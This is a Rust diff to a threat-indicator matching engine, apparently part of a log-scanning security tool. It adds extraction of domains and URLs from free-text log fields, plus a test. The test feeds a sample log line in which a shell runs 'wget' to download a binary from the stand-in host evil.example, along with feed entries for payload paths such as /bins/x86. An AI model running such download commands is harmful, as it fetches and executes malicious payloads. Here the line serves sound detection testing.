@@ -188,6 +188,8 @@ pub struct Engine {
     /// A text line wrapped as a record.
     line: String,
     cef: CefReader,
+    /// A domain name being normalised; reused so that a miss allocates nothing.
+    name: String,
 }
 
 impl Engine {
@@ -204,6 +206,7 @@ impl Engine {
             by_profile: Vec::new(),
             line: String::new(),
             cef: CefReader::default(),
+            name: String::new(),
         };
         engine.reset_index_counts();
         engine
@@ -272,6 +275,7 @@ impl Engine {
             by_profile,
             line,
             cef,
+            name,
         } = self;
         let d = &*detector;
         counters.records_in += 1;
@@ -333,7 +337,7 @@ impl Engine {
         match profile {
             Some(p) => {
                 by_profile[p] += 1;
-                find_matches(d, p, fields, now, found, counters);
+                find_matches(d, p, fields, now, found, counters, name);
             }
             None => counters.without_profile += 1,
         }
@@ -457,6 +461,7 @@ fn find_matches(
     now: i64,
     found: &mut Vec<FoundMatch>,
     counters: &mut Counters,
+    name: &mut String,
 ) {
     let set = &d.indicators;
     let profile = &d.profiles[profile];
@@ -553,11 +558,47 @@ fn find_matches(
     }
 
     if set.has_domains() {
-        let mut name = String::new();
         for field in &profile.domains {
             for (kind, text) in scanned.values(field.slot) {
-                if kind == ScalarKind::String && normalize_domain_into(text, &mut name) {
-                    find_domain(d, &mut sink, &name, (field.slot, &field.role), text);
+                if kind == ScalarKind::String && normalize_domain_into(text, name) {
+                    find_domain(d, &mut sink, name, (field.slot, &field.role), text);
+                }
+            }
+        }
+    }
+
+    // Free text also holds domains and URLs: taken out of every field read as text for
+    // addresses. Addresses in a URL were already taken out of the text above.
+    if set.has_domains() || set.has_urls() {
+        for field in profile.addresses.iter() {
+            if field.format != FieldFormat::Text {
+                continue;
+            }
+            let at = (field.slot, field.role.as_str());
+            for (row, kind, text) in scanned.values_in_rows(field.slot) {
+                if kind != ScalarKind::String || !in_table(&field.table, row) {
+                    continue;
+                }
+                crate::logtext::for_each_url(text, |seen| {
+                    let Some(url) = normalize_url(seen) else {
+                        return;
+                    };
+                    if let Some(head) = set.lookup_text(Kind::Url, &url.text) {
+                        sink.push(head, &url.text, 255, at, seen, false);
+                    }
+                    if set.has_domains()
+                        && parse_ip(url.host()).is_none()
+                        && normalize_domain_into(url.host(), name)
+                    {
+                        find_domain(d, &mut sink, name, at, seen);
+                    }
+                });
+                if set.has_domains() {
+                    crate::logtext::for_each_domain(text, |seen| {
+                        if normalize_domain_into(seen, name) {
+                            find_domain(d, &mut sink, name, at, seen);
+                        }
+                    });
                 }
             }
         }
@@ -566,7 +607,6 @@ fn find_matches(
     if !profile.urls.is_empty()
         && (set.has_urls() || set.has_domains() || set.has_network_indicators())
     {
-        let mut name = String::new();
         for field in &profile.urls {
             for (kind, text) in scanned.values(field.slot) {
                 if kind != ScalarKind::String {
@@ -574,8 +614,8 @@ fn find_matches(
                 }
                 let at = (field.slot, field.role.as_str());
                 // A bare host name (Defender's RemoteUrl often holds one) is a domain.
-                if !text.contains('/') && normalize_domain_into(text, &mut name) {
-                    find_domain(d, &mut sink, &name, at, text);
+                if !text.contains('/') && normalize_domain_into(text, name) {
+                    find_domain(d, &mut sink, name, at, text);
                     continue;
                 }
                 let Some(url) = normalize_url(text) else {
@@ -586,8 +626,8 @@ fn find_matches(
                 }
                 if let Some(addr) = parse_ip(url.host()) {
                     find_address(&mut sink, addr, at, text);
-                } else if set.has_domains() && normalize_domain_into(url.host(), &mut name) {
-                    find_domain(d, &mut sink, &name, at, text);
+                } else if set.has_domains() && normalize_domain_into(url.host(), name) {
+                    find_domain(d, &mut sink, name, at, text);
                 }
             }
         }
@@ -944,6 +984,66 @@ mod tests {
         let miss = br#"{"id":{"orig_h":"10.0.0.1","resp_h":"194.48.251.24","resp_p":81}}"#;
         assert!(
             matches!(e.evaluate(miss, 0).verdict, Verdict::Hit(m) if m.len() == 1 && m[0].kind == Kind::Ipv4)
+        );
+    }
+
+    /// The indicators a text line matched, by indicator and role.
+    fn text_hits(settings: &str, feeds: &[(&str, &[u8])], line: &str) -> Vec<String> {
+        let inputs: Vec<FeedInput<'_>> = feeds
+            .iter()
+            .map(|(name, content)| FeedInput {
+                name,
+                format: FeedFormat::Auto,
+                content,
+            })
+            .collect();
+        let mut e = Engine::new(Detector::build(&inputs, settings).expect("builds").0);
+        match e.evaluate(line.as_bytes(), 0).verdict {
+            Verdict::Hit(m) => m
+                .iter()
+                .map(|m| format!("{} {}", m.indicator, m.role))
+                .collect(),
+            Verdict::Miss => Vec::new(),
+            other => panic!("{other:?}"),
+        }
+    }
+
+    #[test]
+    fn text_lines_yield_domains_and_urls() {
+        let domains: &[u8] = b"evil.example\nhigan.org\nother.example\n";
+        let urls: &[u8] = b"http://evil.example/bins/x86\nhttp://evil.example/bins/arm\n";
+        let settings = "[[feeds]]\nname = \"d\"\nformat = \"list:domain\"\n\
+                        [[feeds]]\nname = \"u\"\nformat = \"list:url\"\n\
+                        [guard]\nbuiltin = false\n";
+        let feeds = [("d", domains), ("u", urls)];
+        let line =
+            "Jun 21 11:17:33 host sh: wget HTTP://Evil.Example/bins/x86; resolved evil.example.";
+        assert_eq!(
+            text_hits(settings, &feeds, line),
+            [
+                "http://evil.example/bins/x86 Message",
+                "evil.example Message",
+                "evil.example Message"
+            ]
+        );
+        // Near misses: a suffix (`michigan.org` is not `higan.org`), a sibling name, a
+        // subdomain under exact matching, and a name inside a path.
+        let misses =
+            "michigan.org a.other.example.net other.example.net sub.evil.example /srv/evil.example";
+        assert_eq!(text_hits(settings, &feeds, misses), Vec::<String>::new());
+        // A URL with another path: only its host, a listed domain, matches.
+        assert_eq!(
+            text_hits(settings, &feeds, "GET http://evil.example/bins/mips"),
+            ["evil.example Message"]
+        );
+        // With subdomain matching, the name under a listed domain is a hit.
+        let subdomains = settings.replace(
+            "\"list:domain\"\n",
+            "\"list:domain\"\ndomain_match = \"subdomains\"\n",
+        );
+        assert_eq!(
+            text_hits(&subdomains, &feeds, "query sub.evil.example"),
+            ["evil.example Message"]
         );
     }
 
